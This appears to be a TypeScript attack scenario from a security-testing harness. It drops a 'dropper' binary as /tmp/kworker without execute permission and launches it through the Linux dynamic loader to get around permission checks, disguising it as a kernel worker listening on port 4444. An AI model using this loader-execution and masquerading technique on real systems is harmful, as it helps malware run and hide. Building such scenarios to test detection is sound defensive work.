import { readFileSync } from "node:fs";
import type { Attack } from "../attack.ts";
import { until } from "../site.ts";

const LOADER = process.arch === "arm64" ? "/lib/ld-linux-aarch64.so.1" : "/lib64/ld-linux-x86-64.so.2";

export const attack: Attack = {
  async act(site) {
    // Without the right to execute: the loader does not ask for it.
    await site.copyIn(site.images.dropper, "/tmp/kworker", 0o644);
    const pid = await site.exec([LOADER, "/tmp/kworker", "-l", "-p", "4444", "-s", "127.0.0.1"]);
    await until("the loaded program", () => /r-xp .*\/tmp\/kworker$/m.test(readFileSync(`/proc/${pid}/maps`, "utf8")));
    return pid;
  },
};
